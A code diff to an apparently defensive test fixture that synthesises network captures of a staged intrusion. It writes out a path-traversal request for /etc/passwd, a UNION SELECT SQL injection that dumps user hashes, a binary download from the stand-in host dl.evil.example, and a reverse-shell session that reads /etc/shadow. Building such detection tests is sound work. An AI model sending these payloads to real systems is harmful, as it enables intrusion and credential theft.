@@ -10,7 +10,9 @@ Addresses: 10.0.0.0/16 is the shop's network (private, so local); 203.0.113.0/24
   t=0     port scan of 10.0.0.10 from 203.0.113.66 (60 ports, refused)
   t=60    FTP brute force of "webmaster" on 10.0.0.10: 8 failures, then a success
   t=120   exploit: GET /cgi-bin/view.cgi?file=../../../../etc/passwd (a shipped signature)
-  t=150   10.0.0.10 downloads an ELF binary from 203.0.113.66 (named ``update.dat``)
+  t=130   SQL injection: the response lists 12 user names with their MD5 password hashes
+  t=150   10.0.0.10 downloads an ELF binary from 203.0.113.66 (named ``update.dat``, from the
+          host name dl.evil.example)
   t=160   10.0.0.10 connects back to 203.0.113.66:4444 (reverse shell, ``uid=0(root)``)
   t=170   203.0.113.66 reaches a shell bound on 10.0.0.10:31337 (a port never served before)
   t=220   10.0.0.10 logs in to 10.0.0.20 over FTP as "administrator" (the reused password)
@@ -28,6 +30,7 @@ to 198.51.100.77:443 (t=1100). No external attacker at all.
 
 from __future__ import annotations
 
+import hashlib
 import random
 
 from tests.analysis.behaviour.traffic import Capture, ftp_login, http_get, normal_office
@@ -46,6 +49,7 @@ ADMIN_PASSWORD = b"Winter2024!"
 CARDS = ("4111111111111111", "5500005555555559", "4012888888881881")  # test numbers, Luhn-valid
 NOT_A_CARD = "4111111111111112"  # fails the Luhn check
 EMAILS = ("alice@example.com", "bob@example.org", "carol@example.net")
+USER_DUMP = b"".join(f"user{i}:{hashlib.md5(f'pw{i}'.encode()).hexdigest()}\n".encode() for i in range(12))
 PE = b"MZ\x90\x00" + bytes(range(256)) * 4
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + bytes(range(256)) * 4
 
@@ -97,8 +101,11 @@ def breach(cap: Capture, rng: random.Random | None = None) -> None:
     cap.session(120, ATTACKER, WEB, 46200, 80,
                 http_get(WEB, "/cgi-bin/view.cgi?file=../../../../etc/passwd",
                          body=b"root:x:0:0:root:/root:/bin/bash\n"))
+    # SQL injection dumping the shop's user table (names and MD5 hashes)
+    cap.session(130, ATTACKER, WEB, 46250, 80, http_get(WEB, "/products.php?id=1%27+UNION+SELECT+name,pw+FROM+users--",
+                                                        body=USER_DUMP))
     # tool download: an ELF by content, with a harmless name
-    cap.session(150, WEB, ATTACKER, 33000, 80, _responses_chunked(http_get(ATTACKER, "/update.dat", body=ELF)))
+    cap.session(150, WEB, ATTACKER, 33000, 80, _responses_chunked(http_get("dl.evil.example", "/update.dat", body=ELF)))
     # the callback (reverse shell)
     cap.session(160, WEB, ATTACKER, 33001, 4444,
                 [(b"id\n", b""), (b"uid=0(root) gid=0(root) groups=0(root)\n", b"cat /etc/shadow\n")])
